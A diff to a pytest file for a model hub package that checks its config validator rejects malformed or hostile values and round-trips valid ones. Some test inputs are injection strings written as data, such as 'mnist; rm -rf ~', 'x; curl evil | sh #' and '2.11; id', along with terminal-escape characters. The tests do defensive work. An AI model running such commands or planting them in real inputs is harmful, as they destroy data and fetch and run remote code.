@@ -24,8 +24,11 @@ from cnvzoo.hub import (
     read_config,
     read_model,
     write_checkpoint,
+    write_config,
 )
 from cnvzoo.models import register_model
+
+ROOT = Path(__file__).resolve().parents[2]
 
 FLOAT = {"name": "resnet20", "num_classes": 10, "in_chans": 1}
 QUANTIZED = {"name": "quant_cnv", "num_classes": 7, "in_chans": 3, "w_bits": 2, "a_bits": 3, "first_w_bits": 4}
@@ -166,6 +169,62 @@ def test_missing_files_are_named(tmp_path: Path) -> None:
         ({"name": "../elsewhere"}, "name"),
         ({"preprocessing": {"size": 32}}, "preprocessing"),
         ({"preprocessing": {"size": "32", "mean": [0.0], "std": [1.0]}}, "preprocessing"),
+        *[
+            ({"preprocessing": {"size": 32, "mean": [0.5], "std": [0.25], "image_size": 28} | change}, names)
+            for change, names in (
+                ({"size": 100_000}, "size"),
+                ({"size": 1025}, "size"),
+                ({"size": 0}, "size"),
+                ({"size": True}, "size"),
+                ({"size": 58}, "size: 58, more than twice the side of the images, image_size 28"),
+                ({"image_size": 100_000}, "image_size"),
+                ({"mean": []}, "mean"),
+                ({"mean": "1"}, "mean"),
+                ({"mean": [0.5] * 2, "std": [0.25] * 2}, "one value per channel"),
+                ({"mean": [0.5] * 4, "std": [0.25] * 4}, "mean"),
+                ({"mean": [float("nan")]}, "mean.0"),
+                ({"mean": [1e300]}, "mean.0"),
+                ({"std": [0.0]}, "std.0"),
+                ({"std": [float("inf")]}, "std.0"),
+                ({"std": [1e-50]}, "std.0"),  # 0 in float32
+                ({"crop": 1}, "crop"),
+            )
+        ],
+        ({"classes": [""] * 10}, "classes.0"),
+        ({"classes": ["a\nb"] * 10}, "classes.0: 'a\\nb' has a character that cannot be printed"),
+        ({"classes": ["\x1b[2J"] * 10}, "classes.0"),
+        ({"classes": ["\u202e"] * 10}, "classes.0"),
+        ({"classes": ["x" * 201] * 10}, "classes.0: a text of 201 characters, where 200 are allowed"),
+        ({"classes": ["x"] * 10_001}, "classes"),
+        ({"dataset": "mnist; rm -rf ~"}, "dataset"),
+        ({"dataset": "-h"}, "dataset"),
+        ({"dataset": ""}, "dataset"),
+        ({"commit": "`; rm -rf ~"}, "commit"),
+        ({"commit": "abcd\n"}, "commit"),
+        ({"commit": "--help"}, "commit"),
+        ({"commit": "ABCDEF"}, "commit"),
+        ({"commit": "abcdef++"}, "commit"),
+        ({"recipe": {"name": "x; curl evil | sh #"}}, "recipe: name: 'x; curl evil | sh #' is not a name"),
+        ({"recipe": {"name": "x\n"}}, "recipe"),
+        ({"recipe": {"name": None}}, "recipe: name"),
+        ({"recipe": {"name": "x", "note": "a\n```\nb"}}, "recipe: note"),
+        ({"recipe": {"name": "x", "a b": 1}}, "recipe: 'a b' is not a key"),
+        ({"recipe": {"a": [{"b": "\x00"}]}}, "recipe: a.0.b"),
+        ({"recipe": {"a": [[[[[[1]]]]]]}}, "recipe: a.0.0.0.0.0: values nested too deep"),
+        ({"recipe": {"lr": float("inf")}}, "recipe: lr: not a finite number"),
+        ({"recipe": {"lr": -(10**4000)}}, "recipe: lr: a whole number beyond 2^53"),
+        ({"versions": {"torch": "2.11; id"}}, "versions.torch"),
+        ({"versions": {"torch\n": "2.11"}}, "versions"),
+        ({"device": {"kind": "cpu", "threads": "1; id"}}, "device: threads"),
+        ({"device": {"kind": "cpu", "threads": 0}}, "device: threads"),
+        ({"device": {"name": "a\nb"}}, "device: name"),
+        ({"device": {"name": {"a": "b"}}}, "device: name"),
+        ({"model": FLOAT | {"name": "a`b"}}, "model"),
+        ({"model": FLOAT | {"w_bits": "4 | 5\n"}}, "model: w_bits"),
+        ({"seed": 10**400}, "seed"),
+        ({"recipes_scored": 0}, "recipes_scored"),
+        ({"numerics": 0}, "numerics"),
+        ({"numerics": 2}, "results: must have seed 1 once"),
         ({"file": {"sha256": "0" * 64, "size": 1 << 40}}, "file.size"),
         ({"file": {"sha256": "0" * 63 + "g", "size": 5}}, "file.sha256"),
     ],
@@ -180,7 +239,50 @@ def test_invalid_config_names_file_and_key(tmp_path: Path, change: dict[str, Any
     assert names in str(caught.value)
 
 
-@pytest.mark.parametrize("content", [b"", b"{", b"\xff\xfe", b"[]"])
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"commit": "0123abcd+", "dataset": "My-data_2.1", "seed": 1},
+        {"commit": "0" * 64, "device": {}, "versions": {}, "recipe": {}},
+        {"classes": ["T-shirt/top", "naïve", "犬", "a|b", "`", "$x$", "#1", "x" * 200, "<b>", " "]},
+        {"preprocessing": {"size": 1024, "mean": [0], "std": [1]}},
+        {"preprocessing": {"size": 1, "mean": [-1.5], "std": [0.00392], "image_size": 1}},
+        {"versions": {"python": "3.12.0rc1", "torch": "2.15.0.dev20261101+cu130", "cudnn": "91900"}},
+        {"device": {"kind": "cpu", "name": "Intel(R) Xeon(R) CPU @ 2.20GHz", "threads": 64, "capability": None}},
+    ],
+)
+def test_what_a_config_may_say(tmp_path: Path, change: dict[str, Any]) -> None:
+    written(tmp_path / "c", FLOAT)
+    rewritten_config(tmp_path / "c", **change)
+    config = read_config(tmp_path / "c").model_dump(mode="json")
+    assert {key: config[key] for key in change} == change
+
+
+def test_newer_keys_are_written_where_they_are_known_and_read_again(tmp_path: Path) -> None:
+    written(tmp_path / "c", FLOAT)
+    before = json.loads((tmp_path / "c" / "config.json").read_text())
+    assert not {"recipes_scored", "numerics"} & {*before, *before["results"][0]}
+    results = [result | {"numerics": 3} for result in before["results"]]
+    rewritten_config(tmp_path / "c", recipes_scored=4, numerics=3, results=results)
+    config = read_config(tmp_path / "c")
+    assert (config.recipes_scored, config.numerics, config.results[0].numerics) == (4, 3, 3)
+    write_config(tmp_path / "c", config)
+    again = json.loads((tmp_path / "c" / "config.json").read_text())
+    assert again == before | {"recipes_scored": 4, "numerics": 3, "results": results}
+
+
+@pytest.mark.parametrize(
+    "path", sorted((ROOT / "hub").glob("*/config.json")), ids=lambda path: path.parent.name
+)  # fmt: skip
+def test_a_published_config_says_the_same_when_it_is_written_again(tmp_path: Path, path: Path) -> None:
+    write_config(tmp_path, read_config(path.parent))
+    before = json.loads(path.read_text())
+    assert json.loads((tmp_path / "config.json").read_text()) == {"integer": None} | before
+    if "integer" in before:  # one is older than that key
+        assert (tmp_path / "config.json").read_bytes() == path.read_bytes()
+
+
+@pytest.mark.parametrize("content", [b"", b"{", b"\xff\xfe", b"[]", b"[" * 100_000, b'{"seed": %s}' % (b"9" * 9999)])
 def test_config_that_is_no_json_object(tmp_path: Path, content: bytes) -> None:
     written(tmp_path / "c", FLOAT)
     (tmp_path / "c" / "config.json").write_bytes(content)
